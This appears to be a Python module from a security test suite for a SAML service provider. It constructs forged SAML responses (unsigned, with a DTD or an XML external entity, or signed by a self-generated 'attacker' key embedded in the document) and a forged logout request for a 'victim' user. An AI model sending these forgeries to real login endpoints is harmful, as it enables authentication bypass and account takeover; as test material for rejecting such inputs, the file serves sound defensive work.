"""Forgeries for SAML by somebody who has no key of the identity provider: responses unsigned, or signed by themselves."""

import asyncio
import base64
import tempfile
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape, quoteattr

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from cryptography.x509.oid import NameOID
from saml2.sigver import CryptoBackendXmlSec1

from identity.attacks.common import common
from identity.attacks.forgeries import Attempt, CannotForge, Forged, Forgery
from identity.attacks.xml_wrapping import empty_doctype, external_entity
from identity.provider import Inbound
from identity.saml.documents import instant_text
from mail.instant import MINUTE

_ASSERTION = "urn:oasis:names:tc:SAML:2.0:assertion:Assertion"
_SIGNATURE = """<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo>\
<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>\
<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>\
<ds:Reference URI="#forged"><ds:Transforms>\
<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>\
<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></ds:Transforms>\
<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue></ds:DigestValue>\
</ds:Reference></ds:SignedInfo><ds:SignatureValue></ds:SignatureValue>\
<ds:KeyInfo><ds:X509Data><ds:X509Certificate>{certificate}</ds:X509Certificate></ds:X509Data></ds:KeyInfo>\
</ds:Signature>"""
_RESPONSE = """<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" \
xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="forged-response" Version="2.0" IssueInstant="{now}" \
Destination={callback} InResponseTo={request}><saml:Issuer>{issuer}</saml:Issuer>\
<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>\
<saml:Assertion ID="forged" Version="2.0" IssueInstant="{now}"><saml:Issuer>{issuer}</saml:Issuer>{signature}\
<saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:2.0:nameid-format:persistent">victim</saml:NameID>\
<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer">\
<saml:SubjectConfirmationData NotOnOrAfter="{ends}" Recipient={callback} InResponseTo={request}/>\
</saml:SubjectConfirmation></saml:Subject><saml:Conditions NotBefore="{begins}" NotOnOrAfter="{ends}">\
<saml:AudienceRestriction><saml:Audience>{audience}</saml:Audience></saml:AudienceRestriction></saml:Conditions>\
<saml:AuthnStatement AuthnInstant="{now}" SessionIndex="forged"><saml:AuthnContext><saml:AuthnContextClassRef>\
urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport</saml:AuthnContextClassRef></saml:AuthnContext>\
</saml:AuthnStatement><saml:AttributeStatement><saml:Attribute Name="urn:oid:0.9.2342.19200300.100.1.3" \
NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:uri"><saml:AttributeValue>{address}</saml:AttributeValue>\
</saml:Attribute></saml:AttributeStatement></saml:Assertion></samlp:Response>"""
_LOGOUT = """<samlp:LogoutRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" \
xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="forged" Version="2.0" IssueInstant="{now}" \
Destination={destination}><saml:Issuer>{issuer}</saml:Issuer><saml:NameID>victim</saml:NameID></samlp:LogoutRequest>"""


async def forged(settings: Any, forgery: Forgery, attempt: Attempt) -> Forged:
    """What a stranger can send; raises CannotForge."""
    match forgery:
        case Forgery.TAMPERED:
            plain = _response(settings, attempt).encode()
            return {
                "unsigned": _posted(attempt, plain),
                "unsigned, with a DTD": _posted(attempt, empty_doctype(plain)),
                "unsigned, with an external entity": _posted(attempt, external_entity(plain, b"victim")),
                "no response at all": _posted(attempt, b"<nothing/>"),
            }
        case Forgery.KEY_IN_DOCUMENT:
            signed = await asyncio.to_thread(_signed_by_ourselves, settings, attempt)
            return _posted(attempt, signed.encode())
        case Forgery.FORGED_LOGOUT:
            destination = f"{attempt.place.own_url}/logout"
            request = _LOGOUT.format(
                now=instant_text(attempt.place.now),
                destination=quoteattr(destination),
                issuer=escape(attempt.kept.get("idp", "")),
            )
            form = {"SAMLRequest": base64.b64encode(request.encode()).decode()}
            return Inbound("POST", destination, form=form, peer="203.0.113.9")
        case Forgery.BARE_CALLBACK | Forgery.NO_STATE | Forgery.SPOOFED_HEADER:
            return common(forgery, attempt)
        case Forgery.EMPTY_PASSWORD | Forgery.FILTER_INJECTION:
            return common(forgery, attempt)
    raise CannotForge("this begins with a response that the identity provider has signed")


def _posted(attempt: Attempt, document: bytes) -> Inbound:
    form = {"SAMLResponse": base64.b64encode(document).decode(), "RelayState": attempt.wish.state}
    return Inbound("POST", attempt.place.callback_url, form=form, peer="203.0.113.9")


def _response(settings: Any, attempt: Attempt, signature: str = "") -> str:
    now = attempt.place.now
    return _RESPONSE.format(
        now=instant_text(now),
        begins=instant_text(now - MINUTE),
        ends=instant_text(now + 5 * MINUTE),
        callback=quoteattr(attempt.place.callback_url),
        request=quoteattr(attempt.kept.get("request", "")),
        issuer=escape(attempt.kept.get("idp", "")),
        audience=escape(settings.entity_id or f"{attempt.place.own_url}/metadata"),
        address=escape(attempt.address),
        signature=signature,
    )


def _signed_by_ourselves(settings: Any, attempt: Attempt) -> str:
    key = rsa.generate_private_key(65537, 2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "attacker")])
    now = datetime.now(UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=1))
        .sign(key, hashes.SHA256())
    )
    in_document = base64.b64encode(certificate.public_bytes(Encoding.DER)).decode()
    document = _response(settings, attempt, _SIGNATURE.format(certificate=in_document))
    with tempfile.NamedTemporaryFile(suffix=".pem") as file:
        pem = key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())
        Path(file.name).write_bytes(pem)
        backend = CryptoBackendXmlSec1(settings.xmlsec1)
        return str(backend.sign_statement(document, _ASSERTION, file.name, "forged"))
